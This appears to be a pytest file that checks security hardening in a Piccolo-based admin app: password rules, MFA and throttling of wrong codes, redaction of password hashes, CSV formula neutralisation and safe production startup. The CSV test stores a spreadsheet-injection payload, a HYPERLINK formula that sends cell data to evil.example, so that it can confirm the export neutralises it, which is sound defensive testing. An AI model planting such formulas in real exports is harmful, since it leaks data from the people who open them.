"""Hardening of issue 24.6: a password policy on every password the admin
sets, MFA through piccolo_api's authenticator provider, no password hash in
any answer, CSV exports that a spreadsheet cannot run, and `piccolo admin
serve --production` refused where it would be unsafe."""

from __future__ import annotations

import subprocess
import uuid

import pytest

from tests.admin.served import PICCOLO
from tests.admin.support import PASSWORD, asgi_client, create_admin_user, csrf, log_in


@pytest.mark.parametrize(
    "password, reason",
    [
        ("short-pw-1", "at least 12 characters"),
        ("password1234", "most common passwords"),
        ("Qwertyuiop!!", "most common passwords"),
        ("x" * 129, "at most 128"),
    ],
)
async def test_a_weak_password_is_refused_for_a_new_user(superuser, conn, password, reason):
    name = f"weak_{uuid.uuid4().hex[:6]}"
    refused = await superuser.post(
        "/admin/api/tables/piccolo_user/",
        json={
            "username": name,
            "password": password,
            "email": f"{name}@example.com",
            "active": True,
            "admin": True,
            "superuser": False,
        },
        headers=csrf(superuser),
    )
    assert refused.status_code == 400 and reason in refused.text, refused.text
    assert await conn.fetchval("SELECT count(*) FROM piccolo_user WHERE username = $1", name) == 0


async def test_a_password_with_the_username_is_refused_on_edit(superuser, conn):
    name = await create_admin_user()
    user_id = await conn.fetchval("SELECT id FROM piccolo_user WHERE username = $1", name)
    refused = await superuser.patch(
        f"/admin/api/tables/piccolo_user/{user_id}/",
        json={"password": f"my-{name}-secret"},
        headers=csrf(superuser),
    )
    assert refused.status_code == 400 and "must not contain the username" in refused.text
    strong = await superuser.patch(
        f"/admin/api/tables/piccolo_user/{user_id}/",
        json={"password": "correct horse battery staple"},
        headers=csrf(superuser),
    )
    assert strong.status_code == 200, strong.text


async def test_change_password_takes_no_weak_password(admin_app):
    username = await create_admin_user()
    async with asgi_client(admin_app) as client:
        assert (await log_in(client, username)).status_code == 200
        refused = await client.post(
            "/admin/api/change-password/",
            json={
                "current_password": PASSWORD,
                "new_password": "password",
                "confirm_new_password": "password",
            },
            headers=csrf(client),
        )
    assert refused.status_code == 422 and "at least 12 characters" in refused.text
    async with asgi_client(admin_app) as client:
        assert (await log_in(client, username)).status_code == 200  # the password is unchanged


async def test_no_answer_carries_a_password_hash(superuser, conn):
    from admin.log_redaction import scrub

    stored = await conn.fetchval("SELECT password FROM piccolo_user LIMIT 1")
    assert stored.startswith("pbkdf2_sha256$")
    assert scrub(f"DETAIL: x\nFailing row contains (7, u, {stored}, ...)") == (
        "DETAIL: <redacted>\n"
    ) or stored not in scrub(f"row ({stored})")
    for body in (
        {"username": f"nomail_{uuid.uuid4().hex[:6]}", "password": PASSWORD},
        {"username": None, "password": PASSWORD, "email": "x@example.com"},
    ):
        refused = await superuser.post(
            "/admin/api/tables/piccolo_user/", json=body, headers=csrf(superuser)
        )
        assert refused.status_code >= 400
        assert "pbkdf2" not in refused.text and PASSWORD not in refused.text


async def test_mfa_with_the_authenticator_provider(admin_app, conn):
    import pyotp
    from piccolo.apps.user.tables import BaseUser

    from admin.mfa import ProjectKeys, authenticator
    from admin.tables import AdminMfaSecret

    username = await create_admin_user()
    user = await BaseUser.objects().get(BaseUser.username == username)
    enrolment = await authenticator("test").get_registration_json(user)
    assert len(enrolment["recovery_codes"]) == 8
    stored = (
        await AdminMfaSecret.select(AdminMfaSecret.secret, exclude_secrets=False)
        .where(AdminMfaSecret.user_id == user.id)
        .first()
    )
    assert stored["secret"].startswith("project_fernet") and "gAAAA" in stored["secret"]
    secret = ProjectKeys().decrypt(stored["secret"])
    async with asgi_client(admin_app) as client:
        asked = await log_in(client, username)
        assert asked.status_code == 401 and "MFA code required" in asked.text
        await client.get("/admin/")
        wrong = await client.post(
            "/admin/public/login/",
            json={"username": username, "password": PASSWORD, "mfa_code": "000000"},
            headers=csrf(client),
        )
        assert wrong.status_code == 401 and "MFA failed" in wrong.text
        for _ in range(2):  # a code made as its 30 s window ends is tried again, anew
            right = await client.post(
                "/admin/public/login/",
                json={
                    "username": username,
                    "password": PASSWORD,
                    "mfa_code": pyotp.TOTP(secret).now(),
                },
                headers=csrf(client),
            )
            if right.status_code == 200:
                break
        assert right.status_code == 200, (right.status_code, right.text)
        # Piccolo Admin's "MFA setup": enrolled, the page offers to revoke.
        setup = await client.get("/admin/api/mfa-setup/")
        assert "MFA Authenticator Cancel" in setup.text


async def test_wrong_mfa_codes_count_as_failed_logins(migrated):
    """Five wrong codes from one address block that user from there."""
    from piccolo.apps.user.tables import BaseUser

    from admin.app import create_app
    from admin.mfa import authenticator
    from admin.throttle import AdminThrottle

    app = create_app(throttle=AdminThrottle(address_limit=1000))
    username = await create_admin_user()
    user = await BaseUser.objects().get(BaseUser.username == username)
    await authenticator("test").get_registration_json(user)
    async with asgi_client(app) as client:
        await client.get("/admin/")
        statuses = []
        for _ in range(6):
            response = await client.post(
                "/admin/public/login/",
                json={"username": username, "password": PASSWORD, "mfa_code": "123456"},
                headers=csrf(client),
            )
            statuses.append(response.status_code)
    assert statuses == [401] * 5 + [429]


async def test_csv_export_neutralises_formulas(client, conn):
    name = f'=HYPERLINK("https://evil.example/?"&A1,"{uuid.uuid4().hex[:6]}")'
    company = await conn.fetchval("INSERT INTO companies (name) VALUES ($1) RETURNING id", name)
    try:
        params = {"id": str(company), "__readable": "true"}
        exported = await client.get(
            "/admin/api/tables/companies/", params={**params, "__page_size": "1000"}
        )
        listed = await client.get("/admin/api/tables/companies/", params=params)
    finally:
        await conn.execute("DELETE FROM companies WHERE id = $1", company)
    assert exported.json()["rows"][0]["name"] == "'" + name
    assert listed.json()["rows"][0]["name"] == name  # the list view shows it as stored


def test_production_without_trusted_proxies_is_refused_in_one_line():
    done = subprocess.run(
        [PICCOLO, "admin", "serve", "--production", "--allowed_hosts=admin.example.com"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2
    assert (
        done.stderr.strip()
        .splitlines()[-1]
        .startswith("error: --production needs --trusted_proxies")
    )
